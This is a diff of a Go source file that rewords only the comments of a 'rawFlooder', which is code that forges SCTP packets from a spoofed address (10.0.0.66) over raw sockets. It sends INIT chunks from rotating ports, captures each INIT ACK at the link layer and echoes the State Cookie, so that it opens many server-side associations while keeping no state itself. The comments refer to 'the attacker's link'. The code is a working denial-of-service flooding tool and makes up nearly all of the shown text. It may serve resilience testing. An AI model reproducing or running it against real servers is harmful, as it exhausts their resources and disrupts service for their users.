@@ -13,16 +13,16 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// A rawFlooder makes associations without a kernel of its own that would remember them: three
-// packets each, of which it sends two. It sends in the name of another address, so that its kernel
-// does not answer for it; the link leads answers here.
+// A rawFlooder sets up associations without a kernel that would keep state for them: each takes
+// three packets, of which it sends two. It sends from another source address, so that its kernel
+// does not answer; the link delivers the packets to that address here.
 type rawFlooder struct {
 	from, server netip.AddrPort
 	ports        atomic.Uint32
 	out, in      int // sockets
 }
 
-// forged is the address in whose name raw packets are sent: one more on the attacker's link.
+// forged is the source address of raw packets: an additional address on the attacker's link.
 var forged = netip.MustParseAddr("10.0.0.66")
 
 func newRawFlooder(server netip.AddrPort) (*rawFlooder, error) {
@@ -42,14 +42,14 @@ func newRawFlooder(server netip.AddrPort) (*rawFlooder, error) {
 	return f, unix.Bind(f.in, &unix.SockaddrLinklayer{Protocol: ip, Ifindex: link.Index})
 }
 
-// init begins an association, from the next port.
+// init sends an INIT from the next port.
 func (f *rawFlooder) init() error {
 	b := make([]byte, 20)
 	rand.Read(b[4:8]) // initiate tag
-	b[4] |= 1         // which is not 0
+	b[4] |= 1         // must not be 0
 	binary.BigEndian.PutUint32(b[8:], 1<<16)
 	b[13], b[15] = 10, 10                           // streams
-	b = append(b, 0x80, 0x08, 0, 6, 15, 0xc0, 0, 0) // supported: AUTH, FORWARD-TSN
+	b = append(b, 0x80, 0x08, 0, 6, 15, 0xc0, 0, 0) // Supported Extensions: AUTH, FORWARD-TSN
 	b = append(b, 0x80, 0x02, 0, 36)                // RANDOM
 	b = append(b, make([]byte, 32)...)
 	b = append(b, 0x80, 0x04, 0, 8, 0, 3, 0, 1)    // HMAC-ALGO
@@ -59,7 +59,7 @@ func (f *rawFlooder) init() error {
 	return f.send(uint16(1024+f.ports.Add(1)%64000), 0, b)
 }
 
-// answer sends the cookie back, as often as one comes.
+// answer answers each INIT ACK with its cookie.
 func (f *rawFlooder) answer() error {
 	packet := make([]byte, 4096)
 	for {
@@ -75,7 +75,7 @@ func (f *rawFlooder) answer() error {
 		}
 		b := packet[int(packet[0]&15)*4 : n]
 		if len(b) < 32 || b[12] != 2 {
-			continue // not INIT ACK
+			continue // not an INIT ACK
 		}
 		tag := binary.BigEndian.Uint32(b[16:])
 		for p := b[32:]; len(p) >= 4; {
@@ -83,7 +83,7 @@ func (f *rawFlooder) answer() error {
 			if length < 4 || length > len(p) {
 				break
 			}
-			if binary.BigEndian.Uint16(p) == 7 { // the cookie
+			if binary.BigEndian.Uint16(p) == 7 { // State Cookie
 				echo := append([]byte{10, 0, p[2], p[3]}, p[4:length]...)
 				echo = append(echo, make([]byte, -len(echo)&3)...)
 				if err := f.send(binary.BigEndian.Uint16(b[2:]), tag, echo); err != nil {
@@ -98,7 +98,7 @@ func (f *rawFlooder) answer() error {
 // send sends one chunk.
 func (f *rawFlooder) send(port uint16, tag uint32, chunk []byte) error {
 	b := make([]byte, 32, 32+len(chunk))
-	b[0], b[8], b[9] = 4<<4|5, 64, unix.IPPROTO_SCTP // the kernel does the rest of the header
+	b[0], b[8], b[9] = 4<<4|5, 64, unix.IPPROTO_SCTP // the kernel fills in the rest of the header
 	copy(b[12:], f.from.Addr().AsSlice())
 	copy(b[16:], f.server.Addr().AsSlice())
 	b = append(b, chunk...)
